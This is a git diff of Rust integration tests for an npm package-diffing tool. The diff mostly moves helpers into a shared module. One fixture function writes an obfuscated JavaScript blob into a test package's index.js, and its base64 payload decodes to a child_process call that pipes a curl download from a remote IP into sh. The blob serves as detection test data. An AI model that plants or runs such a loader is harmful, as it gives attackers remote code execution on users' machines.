@@ -3,33 +3,17 @@
 //! prepends an obfuscated blob to the entry file; as directories, as tarballs, and from a
 //! loopback fixture registry. Packages are only ever read, never run.
 
+mod common;
+
 use std::io::{Read as _, Write as _};
 use std::net::TcpListener;
 use std::path::{Path, PathBuf};
-use std::process::{Command, Output};
+use std::process::Output;
+
+use common::{bulwark_command, json, pack, run, serve, sri_sha512, write};
 
 fn bulwark(args: &[&str]) -> Output {
-    Command::new(env!("CARGO_BIN_EXE_bulwark"))
-        .args(args)
-        .env("NO_COLOR", "1")
-        .env_remove("BULWARK_REGISTRY")
-        .output()
-        .expect("run bulwark")
-}
-
-fn json(output: &Output) -> serde_json::Value {
-    serde_json::from_slice(&output.stdout).unwrap_or_else(|error| {
-        panic!(
-            "stdout is not JSON ({error}): {}\nstderr: {}",
-            String::from_utf8_lossy(&output.stdout),
-            String::from_utf8_lossy(&output.stderr)
-        )
-    })
-}
-
-fn write(path: &Path, text: &str) {
-    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
-    std::fs::write(path, text).unwrap();
+    run(bulwark_command().args(args).env_remove("BULWARK_REGISTRY"))
 }
 
 const INDEX_V1: &str = "'use strict';\n\
@@ -148,7 +132,7 @@ fn write_prepend_patch(dir: &Path) {
         "var _0x4f2a=[{}];(function(_0x1b2c,_0x4d5e){{var _0x2f1a=function(_0x3c4b){{while(--_0x3c4b){{_0x1b2c['push'](_0x1b2c['shift']());}}}};_0x2f1a(++_0x4d5e);}}(_0x4f2a,0x1a3));var _0x2b1c=function(_0x1e2f,_0x3a4b){{_0x1e2f=_0x1e2f-0x0;var _0x5c6d=_0x4f2a[_0x1e2f];return _0x5c6d;}};global[_0x2b1c('0x0')](Buffer['from']('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2N1cmwgLXMgaHR0cDovLzQ1LjYxLjEyLjkveCB8IHNoJyk=','base64')['toString']());",
         table.join(",")
     );
-    write(&dir.join("index.js"), &format!("{blob}\n{INDEX_V1}"));
+    write(&dir.join("index.js"), format!("{blob}\n{INDEX_V1}"));
 }
 
 fn diff_json(old: &Path, new: &Path, extra: &[&str]) -> (Option<i32>, serde_json::Value) {
@@ -331,7 +315,11 @@ fn registry_versions_are_downloaded_and_verified() {
     let mut tampered = new_bytes;
     let last = tampered.len() - 1;
     tampered[last] ^= 0xff;
-    let registry = Registry::start(old_bytes, tampered, &[&integrity_of(&new_tgz)]);
+    let registry = Registry::start(
+        old_bytes,
+        tampered,
+        &[&sri_sha512(&std::fs::read(&new_tgz).unwrap())],
+    );
     let output = bulwark(&[
         "diff",
         "text-format",
@@ -345,34 +333,6 @@ fn registry_versions_are_downloaded_and_verified() {
     assert!(stderr.contains("integrity mismatch"), "{stderr}");
 }
 
-/// Packs `dir` as an npm tarball (`package/` prefix) with python's tarfile.
-fn pack(dir: &Path, out: &Path) {
-    let status = Command::new("python3")
-        .arg("-c")
-        .arg("import sys, tarfile\nwith tarfile.open(sys.argv[2], 'w:gz') as t: t.add(sys.argv[1], arcname='package')")
-        .arg(dir)
-        .arg(out)
-        .status()
-        .unwrap();
-    assert!(status.success());
-}
-
-fn integrity_of(path: &Path) -> String {
-    let output = Command::new("python3")
-        .arg("-c")
-        .arg("import sys, hashlib, base64\nprint('sha512-' + base64.b64encode(hashlib.sha512(open(sys.argv[1],'rb').read()).digest()).decode())")
-        .arg(path)
-        .output()
-        .unwrap();
-    String::from_utf8(output.stdout).unwrap().trim().to_owned()
-}
-
-fn integrity_of_bytes(bytes: &[u8]) -> String {
-    let file = tempfile::NamedTempFile::new().unwrap();
-    std::fs::write(file.path(), bytes).unwrap();
-    integrity_of(file.path())
-}
-
 /// A loopback registry serving one packument with versions 1.4.2 and 1.4.3 and their
 /// tarballs.
 struct Registry;
@@ -384,14 +344,14 @@ impl Registry {
         let base = format!("http://{}", listener.local_addr().unwrap());
         let new_integrity = integrity_override
             .first()
-            .map_or_else(|| integrity_of_bytes(&new), |s| (*s).to_owned());
+            .map_or_else(|| sri_sha512(&new), |s| (*s).to_owned());
         let packument = serde_json::to_vec(&serde_json::json!({
             "name": "text-format",
             "dist-tags": { "latest": "1.4.3" },
             "versions": {
                 "1.4.2": { "name": "text-format", "version": "1.4.2", "dist": {
                     "tarball": format!("{base}/text-format/-/text-format-1.4.2.tgz"),
-                    "integrity": integrity_of_bytes(&old) }},
+                    "integrity": sri_sha512(&old) }},
                 "1.4.3": { "name": "text-format", "version": "1.4.3", "dist": {
                     "tarball": format!("{base}/text-format/-/text-format-1.4.3.tgz"),
                     "integrity": new_integrity }}
@@ -423,9 +383,6 @@ impl Registry {
         base
     }
 }
-
-#[path = "verify_support/mod.rs"]
-mod support;
 
 fn trust_fixture(path: &str) -> Vec<u8> {
     let path = Path::new(env!("CARGO_MANIFEST_DIR"))
@@ -462,7 +419,7 @@ fn provenance_registry() -> String {
     ] {
         let bytes = trust_fixture(tarball);
         let path = format!("/{name}/-/provenance-npm-test-{version}.tgz");
-        let mut dist = serde_json::json!({"tarball": format!("{base}{path}"), "integrity": integrity_of_bytes(&bytes)});
+        let mut dist = serde_json::json!({"tarball": format!("{base}{path}"), "integrity": sri_sha512(&bytes)});
         if let Some(attestations) = attestations {
             let url = format!("/-/npm/v1/attestations/{name}@{version}");
             dist["attestations"] = serde_json::json!({"url": format!("{base}{url}"), "provenance": {"predicateType": "https://slsa.dev/provenance/v0.2"}});
@@ -477,7 +434,7 @@ fn provenance_registry() -> String {
     let packument = serde_json::json!({"name": name, "versions": versions, "time": {
         "1.0.3": "2023-04-20T00:00:00Z", "1.0.5": "2023-04-21T00:00:00Z", "1.0.6": "2023-04-22T00:00:00Z"}});
     files.insert(format!("/{name}"), serde_json::to_vec(&packument).unwrap());
-    support::serve(files, listener);
+    serve(files, listener);
     base
 }
 
